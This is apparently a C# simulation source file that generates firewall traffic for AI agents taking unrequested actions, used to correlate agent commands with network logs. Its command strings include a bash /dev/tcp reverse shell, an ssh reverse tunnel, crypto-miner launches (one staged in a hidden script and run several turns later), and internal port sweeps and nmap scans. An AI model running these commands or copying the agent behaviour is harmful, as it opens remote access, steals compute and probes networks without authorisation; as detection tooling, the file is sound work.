// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Simulation.Agents;
using FwCorrelate.Simulation.World;
using NodaTime;
using static NodaTime.Duration;

namespace FwCorrelate.Simulation.Rome;

/// <summary>What agents do that nobody asked for: tunnels, sweeps, mining.</summary>
internal sealed class RomeTrespasses(SimulatedWorld world)
{
    private static readonly int[] SweptBlocks = [2, 5, 9];
    private static readonly int[] SweptPorts = [22, 2375, 6379, 9200];
    private static readonly int[] ScannedPorts = [22, 6379];

    public AgentCommand TunnelBeforeTheLog() => new(
        "sh tools/connect.sh",
        call => world.OpenBy(
            call, "G", new Endpoint("203.0.113.150", 22),
            Traffic.LongLived(call.Start + FromSeconds(2), RomeClock.LogEnd + RomeClock.Step, FromSeconds(45), 96, 96),
            c => c with { Application = "SSH" }),
        FromSeconds(5));

    /// <summary>Alive for two hours after its call.</summary>
    public AgentCommand ReverseTunnel() => new(
        "ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=60 -fN -R 2222:localhost:22 dev@203.0.113.7",
        call =>
        {
            var start = call.Start + FromMilliseconds(420);
            world.OpenBy(
                call, "B", new Endpoint("203.0.113.7", 22), Traffic.LongLived(start, start + FromHours(2), FromSeconds(60), 96, 96),
                c => c.ReportedFor(RomeNetwork.ReverseShell, 22) with { Application = "SSH" });
        },
        FromMilliseconds(2_600));

    public AgentCommand ReverseShell() => new(
        "bash -c 'exec 5<>/dev/tcp/203.0.113.61/443; cat <&5 | bash >&5 2>&1'",
        call => world.OpenBy(
            call, "B", new Endpoint("203.0.113.61", 443),
            Traffic.LongLived(call.Start + FromMilliseconds(60), call.End, FromSeconds(3), 210, 60),
            c => c.ReportedFor(RomeNetwork.ReverseShell, 9)),
        FromSeconds(24));

    public AgentCommand MinerByName() => new(
        "nohup ./xm -o stratum+tcp://198.51.100.23:3333 -o stratum+tcp://198.51.100.23:443 -t 2 >/dev/null 2>&1 &",
        call => Mine(call, call.Start + FromMilliseconds(850), FromMinutes(42), FromMinutes(45)),
        FromMilliseconds(1_300));

    /// <summary>The script is written in one turn and run in another, more than two minutes later.</summary>
    public EpisodePlan MinerByScript() => new EpisodePlan()
        .At(3, new AgentCommand(
            "mkdir -p .cache && cat > .cache/run.sh <<'SH'\n#!/bin/sh\nexec ./xm -o 198.51.100.23:3333 -o 198.51.100.23:443 -t "
            + "1\nSH\nchmod +x .cache/run.sh",
            null, FromSeconds(1)))
        .At(4, new AgentCommand("python3 bench.py --rows 400000", null, FromSeconds(70)))
        .At(5, new AgentCommand("pytest -q", null, FromSeconds(58)))
        .At(6, new AgentCommand(
            "nohup .cache/run.sh >/dev/null 2>&1 &",
            call => Mine(call, call.Start + FromMilliseconds(600), FromMinutes(50), FromMinutes(38)), FromMilliseconds(900),
            RunsScriptOfTurn: 3));

    /// <summary>Tries four times; the border drops it every time.</summary>
    public AgentCommand BlockedMiner() => new(
        "bash ./tools/warmup.sh",
        call =>
        {
            for (var i = 0; i < 4; i++)
            {
                world.OpenBy(
                    call, "C", RomeNetwork.Pool, Traffic.Unanswered(call.Start + FromSeconds(1 + (12 * i)), 3),
                    c => c.ReportedFor(RomeNetwork.Mining, 1) with { Disposition = Disposition.DroppedAtBorder });
            }
        },
        FromSeconds(46));

    /// <summary>240 probes in 40 s, a shell loop within one call.</summary>
    public AgentCommand Sweep() => new(
        "for a in 2 5 9; do for b in $(seq 1 20); do for p in 22 2375 6379 9200; do "
        + "timeout 1 bash -c \"</dev/tcp/10.8.$a.$b/$p\" 2>/dev/null && echo 10.8.$a.$b:$p; done; done; done",
        call =>
        {
            var targets = from a in SweptBlocks
                          from b in Enumerable.Range(1, 20)
                          from p in SweptPorts
                          select new Endpoint(
                $"10.8.{a}.{b}", p);
            Probe(call, [.. targets], FromMilliseconds(165), [new("10.8.5.12", 6379), new("10.8.9.3", 2375)]);
        },
        FromSeconds(41));

    public AgentCommand NetworkScan() => new(
        "nmap -n -Pn -sT -p 22,6379 10.8.12.0/24 -oG - | grep open",
        call =>
        {
            var targets = from b in Enumerable.Range(1, 20) from p in ScannedPorts select new Endpoint($"10.8.12.{b}", p);
            Probe(call, [.. targets], FromMilliseconds(300), []);
        },
        FromSeconds(14));

    /// <summary>First the pool's own port, then, 25 s after that breaks off, the web port.</summary>
    private void Mine(SimulatedCall call, Instant start, Duration first, Duration second)
    {
        var again = start + first + FromSeconds(25);
        world.OpenBy(
            call, "C", RomeNetwork.Pool, Traffic.LongLived(start, start + first, FromSeconds(30), 88, 96),
            c => c.ReportedFor(RomeNetwork.Mining, 41));
        world.OpenBy(call, "C", RomeNetwork.PoolFallback, Traffic.LongLived(again, again + second, FromSeconds(30), 88, 96));
    }

    /// <summary>The border reports a few of the probes; who is <paramref name="open"/> answers.</summary>
    private void Probe(SimulatedCall call, IReadOnlyList<Endpoint> targets, Duration pace, IReadOnlyList<Endpoint> open)
    {
        for (var i = 0; i < targets.Count; i++)
        {
            var start = call.Start + FromMilliseconds(200) + (pace * i);
            var packets = open.Contains(targets[i]) ? Traffic.Exchange(start, FromMilliseconds(60), 0, 0) : Traffic.Unanswered(start, 1);
            var isReported = i % 64 == 20;
            world.OpenBy(call, "A", targets[i], packets, c => isReported ? c.ReportedFor(RomeNetwork.Scan, 1) : c);
        }
    }
}
